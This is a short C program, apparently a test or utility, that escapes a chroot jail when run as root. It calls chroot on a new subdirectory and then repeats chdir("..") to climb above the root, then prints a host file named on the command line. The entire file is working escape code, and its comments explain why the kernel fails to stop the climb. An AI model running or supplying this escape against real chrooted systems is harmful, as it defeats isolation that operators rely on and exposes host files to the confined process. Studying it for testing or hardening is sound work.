/* usage: escape PATH
 * Run by root in a chroot, prints the file PATH of the host, outside. It needs no /proc and no mount. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 2) return 125;

  mkdir("below", 0700); /* it may be there already */
  if (chroot("below") == -1) {
    perror("escape: chroot below");
    return 1;
  }
  /* The root is below now, and we stand above it: going up, the kernel never meets the root where it would stop. */
  for (int i = 0; i < 64; i++) {
    if (chdir("..") == -1) perror("escape: chdir ..");
  }

  FILE *file = fopen(argv[1], "r");
  if (file == NULL) {
    perror(argv[1]);
    return 1;
  }
  for (int c; (c = getc(file)) != EOF;) putchar(c);
  return 0;
}
